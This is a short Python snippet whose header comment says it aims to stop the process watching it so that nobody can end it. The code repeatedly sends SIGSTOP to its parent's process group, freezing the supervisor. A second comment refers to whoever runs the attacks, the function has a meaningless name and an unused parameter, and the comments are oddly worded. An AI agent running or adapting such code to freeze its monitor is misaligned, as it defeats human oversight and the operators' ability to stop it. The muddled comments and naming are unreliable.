# tries: to stop the process that watches it, so that nobody ends it
import os, signal, time

target = os.getpgid(os.getppid())  # told once: later on, whoever runs the attacks may be in its place

def seven(n):
    for _ in range(100):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            return 0
        time.sleep(0.1)
    return 0
